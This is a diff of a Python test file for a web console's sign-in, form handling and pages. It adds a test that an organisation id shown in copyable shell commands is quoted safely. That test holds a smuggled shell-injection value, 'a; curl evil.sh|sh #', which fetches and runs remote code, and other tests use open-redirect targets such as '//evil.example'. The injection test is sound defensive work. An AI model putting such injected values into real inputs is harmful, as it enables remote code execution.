@@ -4,9 +4,11 @@ from __future__ import annotations
 
 import asyncio
 import gzip
+import html
 import re
-from collections.abc import Awaitable, Callable, Iterable
-from typing import Any, Final, TypeVar
+import shlex
+from typing import Any, Final
+from urllib.parse import quote
 
 import httpx
 import pytest
@@ -15,101 +17,19 @@ import sqlalchemy as sa
 from drawdown.schema.database import write
 from drawdown.schema.errors import UsageError
 from drawdown.schema.units import DAY_MS, MICRO
-from drawdown.server.app import Server
 from drawdown.server.console import console as consoles
-from drawdown.server.console import door, files, sign_in
+from drawdown.server.console import door, files, forms, sign_in
 from drawdown.server.console.door import COOKIE
 from drawdown.server.console.frame import charts, figures
 from drawdown.server.console.looking import TooSlow, look
 from drawdown.server.console.pages import PAGES
-from drawdown.server.services import NobodyThere, ServerSettings, Services
-from drawdown.worker.commands import console_sessions, console_users, credit
+from drawdown.server.services import ServerSettings
+from drawdown.worker.commands import console_sessions, console_users
 from drawdown.worker.views import org_list
+from tests.server.console_home import OURS, PASSWORD, URL, Home, secret
 from tests.world import T0, Fleet
 
 BY_TURNS = True
-T = TypeVar("T")
-URL: Final = "https://drawdown.internal"
-OURS: Final = {"sec-fetch-site": "same-origin"}
-PASSWORD: Final = "correct horse battery"
-STORED: Final = console_users.hash_password(PASSWORD, bytes(16))
-
-
-def secret(number: int) -> str:
-    return f"{number:043}"
-
-
-class Home:
-    """A server with a console, on one database; ann is an operator who has a password and is signed in."""
-
-    def __init__(self, engine: sa.Engine, **settings: Any) -> None:
-        self.engine, self.fleet = engine, Fleet(engine)
-        self.fleet.assign("acme", from_ms=T0)
-        write(engine, lambda c: credit.grant(c, "acme", 10 * MICRO, self.fleet.by, key="k", plan=None))
-        self.fleet.sample("acme", T0 + 1)
-        self.fleet.tick_windows(3)
-        self.now = self.fleet.clock.at_ms
-        write(engine, self._people)
-        self.settings = ServerSettings(requests_per_s=1_000_000, **{"console_url": URL} | settings)
-
-    def _people(self, connection: sa.Connection) -> None:
-        console_users.add(connection, "ann", "operator", secret(1), self.fleet.by)
-        console_users.set_password(connection, secret(1), STORED, self.now)
-        console_sessions.begin(connection, "ann", STORED, secret(7), "192.0.2.7", self.now)
-
-    def register(self, names: Iterable[str]) -> None:
-        """Organisations that nobody bills yet."""
-        many = [{"org": name, "bucket": number % 256} for number, name in enumerate(names)]
-        text = sa.text("INSERT INTO orgs (org_id, bucket) VALUES (:org, :bucket)")
-        write(self.engine, lambda c: c.execute(text, many))
-
-    def server(self, console: bool = True) -> Server:
-        def nobody() -> Any:
-            raise AssertionError("no page asks for a step")
-
-        return Server(
-            Services(
-                engine=self.engine,
-                clock=self.fleet.clock,
-                settings=self.settings,
-                providers={},
-                unasked={},
-                broken={},
-                http=NobodyThere(),
-                thread_kit=nobody,
-                console_engine=self.engine if console else None,
-            )
-        )
-
-    def ask(self, work: Callable[[httpx.AsyncClient, Any], Awaitable[T]], console: bool = True) -> T:
-        async def whole() -> T:
-            server = self.server(console)
-            transport = httpx.ASGITransport(server.app, client=("192.0.2.9", 4711))
-            try:
-                async with httpx.AsyncClient(transport=transport, base_url=URL) as client:
-                    return await work(client, server._console)
-            finally:
-                await asyncio.to_thread(server.close)
-
-        return asyncio.run(whole())
-
-    def get(self, *paths: str, session: int | None = 7, **headers: Any) -> list[httpx.Response]:
-        cookies = {} if session is None else {"cookie": f"{COOKIE}={secret(session)}"}
-
-        async def work(client: httpx.AsyncClient, _: Any) -> list[httpx.Response]:
-            return [await client.get(path, headers={**cookies, **headers}) for path in paths]
-
-        return self.ask(work)
-
-    def post(self, path: str, form: Any, headers: dict[str, str] = OURS) -> httpx.Response:
-        kind = {"content-type": "application/x-www-form-urlencoded"}
-
-        async def work(client: httpx.AsyncClient, _: Any) -> httpx.Response:
-            if isinstance(form, dict):
-                return await client.post(path, data=form, headers=headers)
-            return await client.post(path, content=form, headers={**kind, **headers})
-
-        return self.ask(work)
 
 
 @pytest.fixture
@@ -147,7 +67,9 @@ def test_somebody_signs_in_goes_on_and_signs_out(home: Home) -> None:
     assert session not in str(home.fleet.rows("SELECT * FROM console_sessions"))
     out = home.post("/console/sign-out", {}, {**OURS, "cookie": f"{COOKIE}={session}"})
     assert out.status_code == 303 and "Max-Age=0" in out.headers["set-cookie"]
-    assert len(home.fleet.rows("SELECT 1 FROM console_sessions")) == 1, "the other browser stays signed in"
+    assert len(home.fleet.rows("SELECT 1 FROM console_sessions WHERE name = 'ann'")) == 1, (
+        "the other browser stays signed in"
+    )
 
 
 def test_a_name_that_is_nobodys_gets_the_very_same_answer(home: Home) -> None:
@@ -168,7 +90,7 @@ def test_after_five_failures_not_even_the_right_password_is_looked_at(home: Home
     "place", ["//evil.example", "https://evil.example", "/console/\\evil", "/docs", "/console/\n", "", "/console"]
 )
 def test_whoever_signs_in_goes_on_in_the_console_alone(place: str) -> None:
-    assert sign_in._inside(place) == "/console/"
+    assert sign_in.inside(place) == "/console/"
 
 
 ORIGINS: Final[list[tuple[dict[str, str], bool]]] = [
@@ -196,8 +118,8 @@ def test_a_form_is_taken_from_our_own_pages_alone(home: Home) -> None:
 FORMS: Final = [
     (b"name=a&name=b", 400),
     (b"name=%ff", 400),
-    ("&".join(f"f{n}=1" for n in range(sign_in.MOST_FIELDS + 1)).encode(), 400),
-    (b"x" * (sign_in.MAX_FORM_BYTES + 1), 413),
+    ("&".join(f"f{n}=1" for n in range(forms.MOST_FIELDS + 1)).encode(), 400),
+    (b"x" * (forms.MAX_FORM_BYTES + 1), 413),
     (b"", 401),
 ]
 
@@ -306,33 +228,6 @@ def test_a_page_reads_only_and_only_for_so_long(engine: sa.Engine) -> None:
     assert consoles.WITHIN_S < 30 and consoles.AT_ONCE == 4
 
 
-def _statements(home: Home, path: str) -> int:
-    seen: list[str] = []
-
-    def note(_c: object, _cursor: object, statement: str, *_: object) -> None:
-        if not re.match(r"(BEGIN|SET|PRAGMA|COMMIT|ROLLBACK)", statement.lstrip()):
-            seen.append(statement)
-
-    sa.event.listen(home.engine, "before_cursor_execute", note)
-    try:
-        assert home.get(path)[0].status_code == 200
-    finally:
-        sa.event.remove(home.engine, "before_cursor_execute", note)
-    return len(seen)
-
-
-def test_a_page_asks_as_much_of_many_as_of_few(home: Home) -> None:
-    paths = ("/console/", "/console/orgs", "/console/org?id=acme")
-    few = [_statements(home, path) for path in paths]
-    home.fleet.assign(*(f"org-{n:02}" for n in range(org_list.PAGE_ROWS + 10)), from_ms=T0)
-    for n in range(5):
-        home.fleet.sample(f"org-{n:02}", home.now, 60)
-    home.fleet.tick_windows(3)
-    many = [_statements(home, path) for path in paths]
-    print(few, many)
-    assert all(now <= then + 1 for now, then in zip(many, few, strict=True)), (few, many)
-
-
 def test_a_list_goes_on_behind_its_last_row_and_ends(home: Home) -> None:
     names = [f"org-{n:03}" for n in range(2 * org_list.PAGE_ROWS)]
     home.register(names)
@@ -403,3 +298,25 @@ def test_a_chart_adds_up_small_series_and_its_axis_has_round_steps() -> None:
     assert found.series[-1][2] == 6 * MICRO and found.axis == ["50", "25", "0"]
     assert "&lt;said&gt;" in found.picture and found.picture.count("<title>") == 7
     assert charts.stacked([], "none", MICRO).axis == ["1", "0.5", "0"]
+
+
+def test_a_command_that_is_shown_to_be_copied_takes_a_hostile_id_for_one_word(home: Home) -> None:
+    hostile = "a; curl evil.sh|sh #"
+    home.fleet.assign(hostile, from_ms=T0)
+    home.fleet.sample(hostile, home.now - 1)
+    home.fleet.tick_windows(2)
+    home.now = home.fleet.clock.at_ms
+    named = f"?id={quote(hostile)}"
+    paths = [
+        f"/console/org{named}&tab={tab}" for tab in next(page for page in PAGES if page.path == "/console/org").tabs
+    ]
+    paths += [f"/console/billing{named}", "/console/", "/console/pushes", "/console/pending", "/console/halts"]
+    shown = 0
+    for answer in home.get(*paths):
+        assert answer.status_code == 200
+        for text in re.findall(r"<code>(.*?)</code>", answer.text, re.DOTALL):
+            command = html.unescape(re.sub(r"<[^>]+>", "", text))
+            if "curl" in command:
+                shown += 1
+                assert hostile in shlex.split(command), command
+    assert shown > len(paths) / 2
